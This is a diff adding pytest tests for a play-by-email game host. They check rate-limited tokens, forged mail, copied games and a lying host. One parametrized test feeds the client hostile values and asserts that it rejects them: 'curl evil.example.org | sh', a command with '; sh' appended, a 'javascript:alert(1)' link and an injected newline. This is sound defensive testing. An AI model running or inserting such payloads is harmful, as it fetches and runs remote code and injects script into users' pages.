@@ -1,0 +1,227 @@
+"""A host that deals, among strangers, copies, other hosts and troubles: it deals on."""
+
+import json
+import time
+from collections.abc import Callable, Iterator
+from dataclasses import replace
+from pathlib import Path
+from typing import Any
+
+import pytest
+import urllib3
+
+from pbem.files.home import Home
+from pbem.mail.sending import bundle
+from pbem.records.read_record import read
+from tests.cli.people import NOW, Round
+from tests.host.running import HostProcess
+from tests.host.test_dealing import (
+    FORM,
+    POOL,
+    asked,
+    everybody_joins,
+    started,
+    wait_for_turn,
+)
+from tests.host.test_game import answer, ok
+from tests.host.test_hostile_host import LyingHost, liar, says
+from tests.posting.small_servers import mail_host
+from tests.posting.test_forged_mail import mail
+from tests.posting.test_silent_servers import BO, RHEA, set_up
+
+pytestmark = pytest.mark.host
+__all__ = ["liar"]
+
+
+@pytest.fixture
+def dealing(tmp_path: Path) -> Iterator[HostProcess]:
+    host = HostProcess(
+        str(tmp_path / "data"), tmp_path / "owner", "--deal", SOURCE_DATE_EPOCH=str(NOW)
+    )
+    yield host
+    host.stop()
+
+
+def test_a_copy_of_a_game_at_another_address_is_not_dealt_instead(
+    dealing: HostProcess, table: Round
+):
+    """Eve, who knows the address of a game, makes a game of the same charter at one of her own."""
+    people = everybody_joins(dealing, table, FORM | {"players": "Ann,Bo"})
+    address = people[0].env["PBEM_FOLDER"]
+    wait_for_turn(address, 1)
+    there = [
+        line.split()[0]
+        for line in POOL.request("GET", f"{address}/").data.decode().split("\n")
+        if line
+    ]
+    for n in range(8):  # whatever the order in which the host finds them
+        copy = f"{dealing.url}/g/{n:032x}"
+        for path in sorted(there, key=lambda path: (path != "game.toml", "turns" in path)):
+            data = POOL.request("GET", f"{address}/{path}").data
+            said = POOL.request("PUT", f"{copy}/{path}", body=data, headers={"If-None-Match": "*"})
+            assert said.status == 201, said.data
+    dealing.stop()
+    dealing.start()
+    for who, seat in zip(people, "ab", strict=True):
+        answer(who, address, seat)
+    wait_for_turn(address, 2)
+    time.sleep(1)
+    assert b"turns/0002" not in POOL.request("GET", f"{dealing.url}/g/{0:032x}/").data
+
+
+def test_hosts_with_different_keys_over_one_place_both_deal(tmp_path: Path, table: Round):
+    data, now = str(tmp_path / "data"), str(NOW)
+    hosts = [
+        HostProcess(data, tmp_path / name, "--deal", SOURCE_DATE_EPOCH=now)
+        for name in ("one", "two")
+    ]
+    try:
+        for n, host in enumerate(hosts):
+            people = everybody_joins(host, Round(tmp_path / f"people{n}"), FORM)
+            wait_for_turn(people[0].env["PBEM_FOLDER"], 1)
+    finally:
+        for host in hosts:
+            host.stop()
+
+
+def test_a_game_made_at_the_host_that_waits_is_dealt_by_the_other(tmp_path: Path, table: Round):
+    data, now = str(tmp_path / "data"), str(NOW)
+    one = HostProcess(data, tmp_path / "one", "--deal", SOURCE_DATE_EPOCH=now)
+    started(one, FORM)  # it deals
+    key = Home(tmp_path / "one" / "dealer").read_key("default")
+    Home(tmp_path / "two" / "dealer").write_key("default", key)
+    two = HostProcess(data, tmp_path / "two", "--deal", SOURCE_DATE_EPOCH=now)
+    try:
+        people = everybody_joins(two, table, FORM)
+        wait_for_turn(people[0].env["PBEM_FOLDER"], 1)
+    finally:
+        two.stop()
+        one.stop()
+
+
+def test_odd_requests_get_a_sentence(dealing: HostProcess):
+    game = started(dealing, FORM)
+    digits = game["address"][-32:]
+    assert asked(dealing, f"/new/{digits}/%C3%A9").status == 404
+    assert asked(dealing, f"/new/{'0' * 32}/{'0' * 32}").status == 404
+    assert asked(dealing, "/new/x/y").status == 404
+    said = asked(dealing, "/new", {f"field{n}": "1" for n in range(60)})
+    assert said.status == 400
+    assert b"too many fields" in said.data
+
+
+def test_several_tables_dealt_by_oneself_are_several_commands(dealing: HostProcess):
+    form = FORM | {"players": "A,B,C,D", "each": "2", "dealer": "me"}
+    assert asked(dealing, "/new", form).data.decode().count('value="pbem new ') == 2
+
+
+def test_a_word_that_the_browser_sends_by_itself_makes_no_game(tmp_path: Path):
+    """Somebody else's page can send a form to the host, and the browser adds what was typed for
+    `/games` or `/owner`."""
+    (tmp_path / "token").write_text("correct-horse\n")
+    options = ["--deal", "--token-file", str(tmp_path / "token")]
+    host = HostProcess(str(tmp_path / "data"), tmp_path / "owner", *options)
+
+    def sent(word: str, form: dict[str, str]) -> int:
+        headers = urllib3.util.make_headers(basic_auth=f"me:{word}")
+        url = f"{host.url}/new"
+        said = POOL.request(
+            "POST", url, fields=form, encode_multipart=False, headers=headers, redirect=False
+        )
+        return said.status
+
+    try:
+        assert sent("correct-horse", FORM) == 400
+        assert sent("the-owners-password", FORM | {"token": "correct-horse"}) == 303
+        guesses = [asked(host, "/new", FORM | {"token": f"guess-{n}"}).status for n in range(130)]
+        assert guesses[-1] == 429, "nobody tries out many words"
+    finally:
+        host.stop()
+
+
+def test_one_game_that_cannot_be_read_stops_no_other(dealing: HostProcess, table: Round):
+    people = everybody_joins(dealing, table, FORM | {"players": "Ann,Bo"})
+    address = people[0].env["PBEM_FOLDER"]
+    wait_for_turn(address, 1)
+    folders = set(Path(dealing.data).glob("?" * 32))
+    started(dealing, FORM)
+    (other,) = set(Path(dealing.data).glob("?" * 32)) - folders
+    other.rename(other.with_name("elsewhere"))
+    other.write_text("the disk is not what it was")
+    time.sleep(5)  # the host looks at it now and then
+    for who, seat in zip(people, "ab", strict=True):
+        answer(who, address, seat)
+    wait_for_turn(address, 2)
+
+
+def test_nobody_gets_mail_because_a_join_came_in_their_name(
+    dealing: HostProcess, table: Round, tmp_path: Path
+):
+    """Eve has all invites of the game that she started. She writes to the host in Bo's name."""
+    game = started(dealing, FORM | {"players": "Eve,Bo"})
+    eve = table.person("eve")
+    copy = tmp_path / "copy"
+    copy.mkdir()
+    (copy / "game.toml").write_bytes(POOL.request("GET", f"{game['address']}/game.toml").data)
+    invite = game["seats"][1]["command"].rpartition(" ")[2]
+    ok(eve, f"join -C {copy} --invite {invite}")
+    text = bundle([read(next((copy / "seats").iterdir()).read_bytes())], "join")
+    owner = replace(table.person("owner"), home=dealing.home / "dealer")
+    with mail_host() as host:
+        set_up(owner, host)
+        host.put(RHEA, mail(BO, text))
+        dealing.stop()
+        dealing.start()
+        until = time.monotonic() + 30
+        while b"seats/b" not in POOL.request("GET", f"{game['address']}/").data:
+            assert time.monotonic() < until, "the mail is not read"
+            time.sleep(0.1)
+        time.sleep(3)
+        assert host.mails(BO) == []
+    assert "b Bo: -" in owner.pbem(f"post address -C {game['address']}").out
+
+
+GAME = {
+    "title": "pond", "address": f"http://pond.example.org/g/{'5eed' * 8}",
+    "page": f"/new/{'5eed' * 8}/{'5eed' * 8}",
+    "seats": [
+        {
+            "name": "Ann", "link": "",
+            "command": f"pbem join -C http://pond.example.org/g/{'5eed' * 8} --invite pond:a:X:0:Y",
+        }
+    ],
+}  # fmt: skip
+
+
+def changed(change: Callable[[Any], Any]) -> bytes:
+    """The answer of a host to `pbem new --dealer host`, with something else in it."""
+    game = json.loads(json.dumps(GAME))
+    return json.dumps(change(game) or [game]).encode()
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        b"\xff", b"null", b"[]", b"[[]]", b"{}", b"[1]", b"[" * 100_000, b"1" * 10_000,
+        changed(lambda game: [game, game]),
+        changed(lambda game: game.pop("address")),
+        changed(lambda game: game.update(title=None)),
+        changed(lambda game: game.update(title="pond\nerror: you lost")),
+        changed(lambda game: game.update(page="http://evil.example.org/")),
+        changed(lambda game: game.update(seats=None)),
+        changed(lambda game: game.update(seats=["Ann"])),
+        changed(lambda game: game["seats"][0].update(command="curl evil.example.org | sh")),
+        changed(lambda game: game["seats"][0].update(command=GAME["seats"][0]["command"] + "; sh")),
+        changed(lambda game: game["seats"][0].update(link="javascript:alert(1)")),
+        changed(lambda game: game["seats"][0].update(name={"Ann": 1})),
+    ],
+)  # fmt: skip
+def test_a_host_that_lies_about_the_game_that_it_made(liar: LyingHost, table: Round, data: bytes):
+    """People type the lines that it answers with, and send them to their friends."""
+    words = f"new pond --players Ann,Bo --at {liar.url} --dealer host"
+    liar.answer = says(201, changed(lambda game: None), "application/json")
+    assert GAME["seats"][0]["command"] in ok(table.person("ann"), words)
+    liar.answer = says(201, data, "application/json")
+    said = table.person("ann").pbem(words)
+    assert (said.exit, said.out) == (7, ""), said
+    assert "what answers here is no host of games" in said.err
